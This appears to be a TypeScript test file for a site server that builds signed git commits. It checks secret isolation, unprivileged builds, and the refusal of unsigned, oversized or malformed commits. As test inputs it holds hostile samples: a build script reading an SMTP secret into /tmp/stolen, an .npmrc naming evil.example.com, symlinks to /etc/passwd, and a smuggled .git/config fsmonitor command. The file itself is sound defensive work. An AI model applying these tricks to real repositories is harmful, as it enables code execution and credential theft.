/**
 * Which commits the follower builds, and what a build gets (issue 34, item 1): real git
 * repositories, commits signed with real SSH keys (ssh-keygen, as git signs with
 * gpg.format=ssh), a real site server, and builds run as the follower runs them.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, mkdirSync, renameSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { MAX_CHANGED_FILES } from '../../../scripts/site-server/follow/commit-trust';
import { followMessages } from '../../../scripts/site-server/follow/follow-messages';
import { type Cleanups, serveAndFollow, signingKey, tempFolder, testCheckout, waitFor } from '../../helpers/follow-checkout';
import { root } from '../../helpers/project';

const cleanups: Cleanups = [];
afterEach(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
});

/** A follower on a new checkout of the project, once it serves its first build (`first`). */
async function followingAfresh() {
  const repo = await testCheckout(cleanups);
  const { follower, lines } = await serveAndFollow(cleanups, {
    checkout: repo.checkout,
    buildsDir: tempFolder(cleanups, 'follow-builds-'),
  });
  await waitFor('the first build', () => follower.servedCommit !== undefined);
  return { repo, follower, lines, first: follower.servedCommit ?? '' };
}

/** Keys for a test: `trusted` is in the allowed-signers file, `stranger` is not. */
function keys() {
  const folder = tempFolder(cleanups, 'follow-keys-');
  const trusted = signingKey(folder, 'release');
  const stranger = signingKey(folder, 'stranger');
  const allowedSigners = join(folder, 'allowed_signers');
  writeFileSync(allowedSigners, `${trusted.allowed}\n`);
  return { trusted, stranger, allowedSigners };
}

/** Whether the follower has said what became of `commit`: any line naming it but the one saying it is being built. */
const toldOf = (lines: string[], commit: string): boolean =>
  lines.some((line) => line.includes(commit.slice(0, 12)) && !line.includes('arrived; building it'));

/** The uid of the user builds run as when the tests run as root. */
const nobody = (): number => Number(execFileSync('id', ['-u', 'nobody'], { encoding: 'utf8' }).trim());

describe('what a build gets', () => {
  /** Variables of the kind a server holds: none may reach a build. */
  const SECRETS = {
    SMTP_URL: 'smtp://mailer:smtp-password-1@mail.example.com:587',
    WEBHOOK_SECRET: 'whsec_c2VjcmV0LXdlYmhvb2stMg==',
    WEBHOOK_URL: 'https://hooks.example.com/secret-path-3',
    DATABASE_URL: 'postgres://site:db-password-4@127.0.0.1:5432/site',
    STORE_PATH: '/var/lib/secret-store-5.db',
    EDIT_TOKEN: 'editor-token-6',
    NOTIFY_TO: 'team-7@example.com',
    SOME_API_KEY: 'api-key-8',
  };
  const saved: Record<string, string | undefined> = {};
  afterEach(() => {
    for (const [name, value] of Object.entries(saved)) {
      if (value === undefined) delete process.env[name];
      else process.env[name] = value;
    }
  });

  it('runs a trusted commit’s build script with none of the server’s secrets, as an unprivileged user, and serves what it wrote', async () => {
    for (const [name, value] of Object.entries({ ...SECRETS, ENQUIRY_ENDPOINT: 'https://forms.example.com/f/1' })) {
      saved[name] = process.env[name];
      process.env[name] = value;
    }
    const { trusted, allowedSigners } = keys();
    const repo = await testCheckout(cleanups);
    const { follower, lines, home } = await serveAndFollow(cleanups, {
      checkout: repo.checkout,
      buildsDir: tempFolder(cleanups, 'follow-builds-'),
      allowedSigners,
    });
    await waitFor('the first build', () => follower.servedCommit !== undefined);
    // A build script that prints everything it can see of its process into the page it builds.
    const printing = await repo.commit(
      {
        'build.sh': `#!/bin/sh
mkdir -p "$2"
{ printf '<!doctype html><pre>'; id -u; env; printf '</pre>'; } > "$2/index.html.tmp"
mv "$2/index.html.tmp" "$2/index.html"
`,
      },
      trusted,
    );
    await waitFor('the printing build', () => toldOf(lines, printing));
    expect(lines.filter((line) => line.includes('not built') || line.includes('failed'))).toEqual([]);
    const printed = await home();
    const names = [...printed.matchAll(/^([A-Za-z_][A-Za-z0-9_]*)=/gm)].map((match) => match[1]);
    for (const [name, value] of Object.entries(SECRETS)) {
      expect(names).not.toContain(name);
      expect(printed).not.toContain(value);
    }
    // Only what a build needs, and its settings.
    expect(names.filter((name) => !['PWD', 'SHLVL', '_', 'OLDPWD'].includes(name ?? '')).sort()).toEqual(
      [
        'BUILD_CACHE_DIR',
        'ENQUIRY_ENDPOINT',
        'HOME',
        'PATH',
        'TMPDIR',
        ...['LANG', 'LC_ALL', 'TZ'].filter((name) => process.env[name] !== undefined),
      ].sort(),
    );
    expect(printed).toContain('ENQUIRY_ENDPOINT=https://forms.example.com/f/1');
    if (process.getuid?.() === 0) expect(printed).toMatch(new RegExp(`<pre>${nobody()}\\n`));
  });

  it('gives a build a TMPDIR whose sockets fit, however deep the builds folder is', async () => {
    const repo = await testCheckout(cleanups);
    await repo.commit({
      'build.sh': `#!/bin/sh\nmkdir -p "$2"\nprintf '<!doctype html><pre>%s</pre>' "$TMPDIR" > "$2/index.html.tmp"\nmv "$2/index.html.tmp" "$2/index.html"\n`,
    });
    const deep = join(tempFolder(cleanups, 'follow-builds-'), ...Array.from({ length: 12 }, () => 'a-deep-folder'));
    const { follower, home } = await serveAndFollow(cleanups, { checkout: repo.checkout, buildsDir: deep });
    await waitFor('the first build', () => follower.servedCommit !== undefined);
    const tmp = /<pre>(.*)<\/pre>/.exec(await home())?.[1] ?? '';
    expect(tmp).not.toBe('');
    // tsx listens on $TMPDIR/tsx-<uid>/<pid>.pipe, and a socket's path has at most 107 bytes:
    // beyond, it was cut short, and a later build whose process id began alike failed (EADDRINUSE).
    expect(Buffer.byteLength(`${tmp}/tsx-4294967295/4194304.pipe`)).toBeLessThanOrEqual(107);
  });
});

describe('what a build may touch', () => {
  const asRoot = process.getuid?.() === 0;

  it.runIf(asRoot)('cannot write the files of the build served: a build that tries fails, and the site is as it was', async () => {
    const repo = await testCheckout(cleanups);
    // The output folder starts as hard links to the build served: a build that wrote a file where
    // it lies, instead of beside it and renamed, would change the build served too.
    await repo.commit({
      'build.sh': `#!/bin/sh\nif [ "$(cat pages/version.txt)" = tamper ]; then printf tampered > "$2/index.html" || exit 3; fi\n${PLAIN_WITH('v1')}`,
    });
    const { follower, lines, home } = await serveAndFollow(cleanups, {
      checkout: repo.checkout,
      buildsDir: tempFolder(cleanups, 'follow-builds-'),
    });
    await waitFor('the first build', () => follower.servedCommit !== undefined);
    const first = follower.servedCommit;
    const tamper = await repo.commit({ 'pages/version.txt': 'tamper' });
    await waitFor('the verdict', () => toldOf(lines, tamper));
    expect(lines.at(-1)).toMatch(new RegExp(`^The build of commit ${tamper.slice(0, 12)} failed, .*\n.*Permission denied`));
    expect(follower.servedCommit).toBe(first);
    expect(await home()).toContain('<title>v1 first</title>');
  });

  it.runIf(asRoot)('says at start, in one line, that the build user cannot reach the checkout’s packages, and builds nothing', async () => {
    const closed = tempFolder(cleanups, 'follow-closed-');
    chmodSync(closed, 0o700);
    const repo = await testCheckout(cleanups);
    const checkout = join(closed, 'checkout');
    renameSync(repo.checkout, checkout);
    mkdirSync(join(checkout, 'node_modules'));
    const { follower, lines } = await serveAndFollow(cleanups, { checkout, buildsDir: tempFolder(cleanups, 'follow-builds-') });
    expect(lines.at(-1)).toBe(followMessages.cannotReach('nobody', join(checkout, 'node_modules')));
    expect(lines.at(-1)).toBe(
      `Not following new commits: the builds run as nobody, who cannot reach ${join(checkout, 'node_modules')}. Make it and the folders above it readable to that user (chmod o+rx), or name another user in FOLLOW_BUILD_USER.`,
    );
    expect(follower.servedCommit).toBeUndefined();
  });

  it.runIf(asRoot)('says at start, in one line, that builds cannot run as nobody when the server may not change users', async () => {
    const repo = await testCheckout(cleanups);
    const folder = tempFolder(cleanups, 'follow-no-setuid-');
    const script = join(folder, 'follow.mts');
    writeFileSync(
      script,
      `import { followBranch } from ${JSON.stringify(join(root, 'scripts/site-server/follow/follow-branch.ts'))};
const lines = [];
const follower = await followBranch({ checkout: ${JSON.stringify(repo.checkout)}, buildsDir: ${JSON.stringify(join(folder, 'builds'))}, serveBuild: () => undefined, log: (line) => lines.push(line) });
await follower.stop();
console.log(JSON.stringify(lines));
`,
    );
    // Root without the right to change users (as in a container that drops CAP_SETUID).
    const run = spawnSync('setpriv', ['--bounding-set=-setuid,-setgid', process.execPath, '--import', 'tsx', script], {
      cwd: root,
      encoding: 'utf8',
      timeout: 300_000,
    });
    const lines = JSON.parse(run.stdout.trim().split('\n').at(-1) ?? '[]') as string[];
    expect(lines.at(-1)).toBe(followMessages.cannotBecome('nobody', 'spawn EPERM'));
    expect(lines.at(-1)).toBe(
      'Not following new commits: the builds cannot run as nobody (spawn EPERM). Give the server the right to change users, or start it as an unprivileged user of its own.',
    );
  });

  it('never serves a build that left a link in its output', async () => {
    const repo = await testCheckout(cleanups);
    await repo.commit({ 'build.sh': `${PLAIN_WITH('v1')}[ "$version" = link ] && ln -s /etc/passwd "$2/leak"\nexit 0\n` });
    const { follower, lines, home } = await serveAndFollow(cleanups, {
      checkout: repo.checkout,
      buildsDir: tempFolder(cleanups, 'follow-builds-'),
    });
    await waitFor('the first build', () => follower.servedCommit !== undefined);
    const first = follower.servedCommit;
    const link = await repo.commit({ 'pages/version.txt': 'link' });
    await waitFor('the verdict', () => toldOf(lines, link));
    expect(lines.at(-1)).toBe(followMessages.cannotServe(link, 'it holds leak, which is a link'));
    expect(follower.servedCommit).toBe(first);
    expect(await home()).toContain('<title>v1 first</title>');
  });
});

describe('which commits are built', () => {
  it('builds a commit that changes only content with the code served', async () => {
    const repo = await testCheckout(cleanups);
    const { follower, lines, home } = await serveAndFollow(cleanups, {
      checkout: repo.checkout,
      buildsDir: tempFolder(cleanups, 'follow-builds-'),
    });
    await waitFor('the first build', () => follower.servedCommit !== undefined);
    const content = await repo.commit({ 'pages/version.txt': 'second', 'public/robots.txt': 'x', 'docs/notes.md': 'y', 'CHANGES.md': 'z' });
    await waitFor('the verdict', () => toldOf(lines, content));
    expect(lines.at(-1)).toMatch(new RegExp(`^The site now serves commit ${content.slice(0, 12)} `));
    expect(await home()).toContain('<title>second</title>');
  });

  it('refuses a commit that changes code and is not signed, in one line, once, and keeps the site', async () => {
    const { allowedSigners } = keys();
    const repo = await testCheckout(cleanups);
    const buildsDir = tempFolder(cleanups, 'follow-builds-');
    const { follower, lines, home } = await serveAndFollow(cleanups, { checkout: repo.checkout, buildsDir, allowedSigners });
    await waitFor('the first build', () => follower.servedCommit !== undefined);
    const first = follower.servedCommit ?? '';
    const code = await repo.commit({
      'build.sh': 'cat "$SMTP_URL" > /tmp/stolen',
      'package.json': '{"scripts":{"build":"sh build.sh"},"x":1}',
      '.npmrc': 'registry=http://evil.example.com/',
      'vite.config.ts': 'export default {};',
      'pages/version.txt': 'code',
    });
    await waitFor('the verdict', () => toldOf(lines, code));
    expect(lines.at(-1)).toBe(
      followMessages.refused(code, first, ['.npmrc', 'build.sh', 'package.json', 'vite.config.ts'], allowedSigners, 'N'),
    );
    expect(lines.at(-1)).toBe(
      `Commit ${code.slice(0, 12)} is not built: it changes code (.npmrc, build.sh, package.json and 1 more), and a commit that changes code is built only when signed by a key listed in ${allowedSigners}; this commit is not signed. The site still serves commit ${first.slice(0, 12)}. To build it, sign it with a listed key (git commit -S, with gpg.format=ssh), or restart the server on it.`,
    );
    // Several polls later: said once, nothing built.
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(lines.filter((line) => line.includes('is not built'))).toHaveLength(1);
    expect(lines.some((line) => line.startsWith(`Commit ${code.slice(0, 12)} arrived`))).toBe(false);
    expect(follower.servedCommit).toBe(first);
    expect(await home()).toContain('<title>first</title>');

    // A content commit on top of it carries its code: refused too.
    const onTop = await repo.commit({ 'pages/version.txt': 'on top' });
    await waitFor('the second verdict', () => toldOf(lines, onTop));
    expect(follower.servedCommit).toBe(first);
  });

  it('says that no code commit is built while FOLLOW_ALLOWED_SIGNERS is not set', async () => {
    const { repo, lines, first } = await followingAfresh();
    const code = await repo.commit({ 'schemas/page.schema.json': '{}', 'migrations/001.ts': '', 'pages/.gitattributes': '* filter=x\n' });
    await waitFor('the verdict', () => toldOf(lines, code));
    expect(lines.at(-1)).toBe(
      `Commit ${code.slice(0, 12)} is not built: it changes code (migrations/001.ts, pages/.gitattributes, schemas/page.schema.json), and a commit that changes code is built only when signed by a key listed in the allowed-signers file FOLLOW_ALLOWED_SIGNERS names, which is not set. The site still serves commit ${first.slice(0, 12)}. To build it, sign it with a listed key (git commit -S, with gpg.format=ssh), or restart the server on it.`,
    );
  });

  it('refuses a link in pages/, even one of content, and says it is a link', async () => {
    const { repo, lines, first } = await followingAfresh();
    execFileSync('ln', ['-s', '/etc/passwd', join(repo.checkout, 'pages/leak.json')]);
    const link = await repo.commit({});
    await waitFor('the verdict', () => toldOf(lines, link));
    expect(lines.at(-1)).toBe(followMessages.refused(link, first, ['pages/leak.json (a link)'], undefined, undefined));
  });

  it('refuses a commit signed by a key the allowed-signers file does not list', async () => {
    const { stranger, allowedSigners } = keys();
    const repo = await testCheckout(cleanups);
    const { follower, lines } = await serveAndFollow(cleanups, {
      checkout: repo.checkout,
      buildsDir: tempFolder(cleanups, 'follow-builds-'),
      allowedSigners,
    });
    await waitFor('the first build', () => follower.servedCommit !== undefined);
    const first = follower.servedCommit ?? '';
    const code = await repo.commit({ 'build.sh': `${'#'} changed\n${'exit 1'}\n` }, stranger);
    await waitFor('the verdict', () => toldOf(lines, code));
    expect(lines.at(-1)).toBe(followMessages.refused(code, first, ['build.sh'], allowedSigners, 'U'));
    expect(lines.at(-1)).toContain('; this commit is signed by a key the file does not list.');
  });

  it('builds a signed code commit, then content on top of it, and a publish that lands on a signed commit unseen', async () => {
    const { trusted, allowedSigners } = keys();
    const repo = await testCheckout(cleanups);
    const { follower, lines, home } = await serveAndFollow(cleanups, {
      checkout: repo.checkout,
      buildsDir: tempFolder(cleanups, 'follow-builds-'),
      allowedSigners,
    });
    await waitFor('the first build', () => follower.servedCommit !== undefined);
    const signed = await repo.commit({ 'build.sh': PLAIN_WITH('v2') }, trusted);
    await waitFor('the verdict', () => toldOf(lines, signed));
    expect(await home()).toContain('<title>v2 first</title>');
    const content = await repo.commit({ 'pages/version.txt': 'second' });
    await waitFor('the verdict', () => toldOf(lines, content));
    expect(await home()).toContain('<title>v2 second</title>');

    // A signed release and an editor's publish on top of it reach the branch together (a pull):
    // the publish is never signed, but its code is the release's.
    const other = tempFolder(cleanups, 'follow-other-');
    await repo.run(['clone', '-q', '--', repo.checkout, other]);
    const elsewhere = async (args: string[]) => repo.run(['-C', other, ...args]);
    writeFileSync(join(other, 'build.sh'), PLAIN_WITH('v3'));
    await elsewhere(['-c', 'gpg.format=ssh', '-c', `user.signingkey=${trusted.file}`, 'commit', '-q', '-S', '-a', '-m', 'Release 3']);
    writeFileSync(join(other, 'pages/version.txt'), 'third');
    await elsewhere(['commit', '-q', '-a', '-m', 'Publish']);
    await repo.run(['pull', '-q', '--ff-only', other, 'main']);
    const publish = await repo.run(['rev-parse', 'HEAD']);
    await waitFor('the publish on the release', () => toldOf(lines, publish));
    expect(await home()).toContain('<title>v3 third</title>');

    // The branch moves back to the release before: its code was trusted, and is again.
    await repo.run(['reset', '-q', '--hard', content]);
    await waitFor('the way back', () => lines.filter((line) => toldOf([line], content)).length === 2);
    expect(await home()).toContain('<title>v2 second</title>');
  });

  it('refuses a path git would never write, such as pages/.git/…, as code', async () => {
    const { repo, lines, first } = await followingAfresh();
    // git mktree takes names that git add never would: a folder named .git inside pages/.
    const blob = await repo.run(['hash-object', '-w', '--stdin'], '[core]\n\tfsmonitor = touch /tmp/owned\n');
    const dotGit = await repo.run(['mktree'], `100644 blob ${blob}\tconfig\n`);
    const pages = await repo.run(['mktree'], `${await repo.run(['ls-tree', 'HEAD:pages'])}\n040000 tree ${dotGit}\t.git\n`);
    const top = (await repo.run(['ls-tree', 'HEAD'])).replace(/^040000 tree \w+\tpages$/m, `040000 tree ${pages}\tpages`);
    const odd = await repo.run(['commit-tree', await repo.run(['mktree'], `${top}\n`), '-p', 'HEAD', '-m', 'A folder named .git']);
    await repo.run(['update-ref', 'refs/heads/main', odd]);
    await waitFor('the verdict', () => toldOf(lines, odd));
    expect(lines.at(-1)).toBe(followMessages.refused(odd, first, ['pages/.git/config'], undefined, undefined));
  });

  it('refuses a commit of content too large to write out: one file over 100 MB, or over 1 GB in all', async () => {
    const { repo, follower, lines, first } = await followingAfresh();
    // Large files of zeros, stored by git in a few kilobytes, committed under as many names as needed.
    const commitBlob = async (bytes: number, names: string[]): Promise<string> => {
      const blob = execFileSync('git', ['hash-object', '-w', '--stdin'], {
        cwd: repo.checkout,
        input: Buffer.alloc(bytes),
        encoding: 'utf8',
      }).trim();
      const index = join(tempFolder(cleanups, 'follow-index-'), 'index');
      const withIndex = (args: string[], input?: string) =>
        execFileSync('git', args, { cwd: repo.checkout, env: { ...process.env, GIT_INDEX_FILE: index }, input, encoding: 'utf8' }).trim();
      withIndex(['read-tree', 'HEAD']);
      withIndex(['update-index', '--index-info'], names.map((name) => `100644 blob ${blob}\t${name}\n`).join(''));
      const large = await repo.run(['commit-tree', withIndex(['write-tree']), '-p', 'HEAD', '-m', 'Large files']);
      await repo.run(['update-ref', 'refs/heads/main', large]);
      return large;
    };
    const one = await commitBlob(150 * 1024 ** 2, ['public/media/film.mp4']);
    await waitFor('the verdict on one large file', () => toldOf(lines, one));
    expect(lines.at(-1)).toBe(
      `Commit ${one.slice(0, 12)} is not built: public/media/film.mp4 is 150.0 MB, more than the 100 MB a content file may be. The site still serves commit ${first.slice(0, 12)}. Publish the change in smaller commits, sign it with a listed key (a signed commit is not limited), or restart the server on it.`,
    );
    await repo.run(['update-ref', 'refs/heads/main', first]);
    const many = await commitBlob(
      100 * 1024 ** 2,
      Array.from({ length: 11 }, (_, at) => `public/media/part-${at}.bin`),
    );
    await waitFor('the verdict on many large files', () => toldOf(lines, many));
    expect(lines.at(-1)).toBe(
      followMessages.tooLarge(many, first, 'the files it changes come to 1.1 GB, more than the 1 GB a commit of content may bring'),
    );
    expect(follower.servedCommit).toBe(first);
  });

  it(`refuses, unchecked, a commit that changes more than ${MAX_CHANGED_FILES} files`, async () => {
    const { repo, lines, first } = await followingAfresh();
    // One blob under MAX_CHANGED_FILES + 1 names, committed without writing a file.
    const blob = await repo.run(['hash-object', '-w', '--stdin'], 'x');
    const index = join(tempFolder(cleanups, 'follow-index-'), 'index');
    const withIndex = (args: string[], input?: string) =>
      execFileSync('git', args, { cwd: repo.checkout, env: { ...process.env, GIT_INDEX_FILE: index }, input, encoding: 'utf8' }).trim();
    withIndex(['read-tree', 'HEAD']);
    withIndex(
      ['update-index', '--index-info'],
      Array.from({ length: MAX_CHANGED_FILES + 1 }, (_, at) => `100644 blob ${blob}\tpages/many/${at}.txt\n`).join(''),
    );
    const tree = withIndex(['write-tree']);
    const many = await repo.run(['commit-tree', tree, '-p', 'HEAD', '-m', 'Many files']);
    await repo.run(['update-ref', 'refs/heads/main', many]);
    await waitFor('the verdict', () => toldOf(lines, many));
    expect(lines.at(-1)).toBe(followMessages.tooMany(many, first));
    expect(lines.at(-1)).toContain('it changes more than 50,000 files');
  });
});

/** The plain build script, naming `code` before the version in the page's title. */
function PLAIN_WITH(code: string): string {
  return `#!/bin/sh
set -e
version=$(cat pages/version.txt)
mkdir -p "$2"
printf '<!doctype html><title>${code} %s</title>' "$version" > "$2/index.html.tmp"
mv "$2/index.html.tmp" "$2/index.html"
`;
}
